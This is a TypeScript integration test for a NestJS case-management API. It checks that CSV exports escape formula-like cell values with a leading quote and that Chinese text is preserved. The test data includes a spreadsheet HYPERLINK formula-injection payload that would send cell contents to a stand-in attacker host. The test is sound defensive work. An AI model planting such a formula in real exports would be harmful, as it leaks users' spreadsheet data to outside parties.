import { randomUUID } from 'node:crypto';
import type { NestExpressApplication } from '@nestjs/platform-express';
import { parse } from 'csv-parse/sync';
import { Http, startApi } from '../support/apps';
import { tokenFor } from '../support/auth';
import { as, caseBody } from '../support/cases';

describe('CSV exports (real api on PostgreSQL)', () => {
  let app: NestExpressApplication;
  let http: () => Http;
  let agent: ReturnType<typeof as>;

  beforeAll(async () => {
    ({ app, http } = await startApi());
    agent = as(http, await tokenFor(http, 'agent'));
  });
  afterAll(() => app?.close());

  it('exports a case whose text starts like a formula with a leading quote, Chinese text unchanged', async () => {
    const marker = randomUUID().slice(0, 8);
    const description = `=HYPERLINK("http://evil.example/?leak="&A1,"点我查看 ${marker}")`;
    const address = `建国门外大街 ${marker} 号`;
    const c = (await agent.post('/cases', caseBody({ description, address, callerName: '@王女士' })).expect(201)).body;

    const res = await agent.get(`/cases?q=${marker}&format=csv`).expect(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.text.startsWith('\uFEFF')).toBe(true);
    const [header, ...rows] = parse(res.text.slice(1));
    const row = Object.fromEntries(header.map((name, i) => [name, rows[0][i]]));
    expect(rows).toHaveLength(1);
    expect(row).toMatchObject({
      id: c.id,
      caseNumber: c.caseNumber,
      description: `'${description}`,
      callerName: "'@王女士",
      address,
      status: 'registered',
    });
  });
});
